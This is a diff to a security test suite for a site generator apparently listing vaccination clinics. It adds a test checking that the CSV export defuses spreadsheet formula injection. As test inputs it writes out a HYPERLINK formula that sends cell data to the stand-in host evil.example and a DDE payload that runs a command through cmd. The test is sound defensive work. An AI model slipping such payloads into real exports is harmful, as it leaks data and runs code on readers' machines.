@@ -1,5 +1,8 @@
 """Nothing an editor types can attack a resident (issue 20): each test here failed before its fix."""
 
+import csv
+import io
+import json
 import re
 import shutil
 import subprocess
@@ -107,3 +110,19 @@ def test_the_publish_check_refuses_a_link_that_runs_code(tmp_path):
         '</body></html>', encoding="utf-8")
     problems = validate(tmp_path)
     assert len(problems) == 2 and all("不安全的链接" in p for p in problems)
+
+
+def test_open_data_csv_never_carries_a_live_formula(build_with, sample_text):
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"点这里")'
+    text = sample_text.replace("name: 通渭县疾病预防控制中心预防接种门诊", f"name: '{hostile}'", 1)
+    text = text.replace("address: 平襄镇西大街（县疾控中心一楼）", "address: \"@SUM(1+1)*cmd|' /C calc'!A0\"", 1)
+    built = build_with(text)
+    assert built.returncode == 0, built.stderr
+    rows = list(csv.DictReader(io.StringIO((built.output / "data/sites.csv").read_text(encoding="utf-8-sig"))))
+    cdc = next(r for r in rows if r["id"] == "tw-cdc")
+    assert cdc["name"] == "'" + hostile and cdc["address"].startswith("'@SUM")
+    for row in rows:  # no cell of any row starts like a formula
+        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values()), row
+    record = next(s for s in json.loads((built.output / "data/sites.json").read_text(encoding="utf-8"))["sites"]
+                  if s["id"] == "tw-cdc")
+    assert record["name"] == hostile  # the JSON is exact
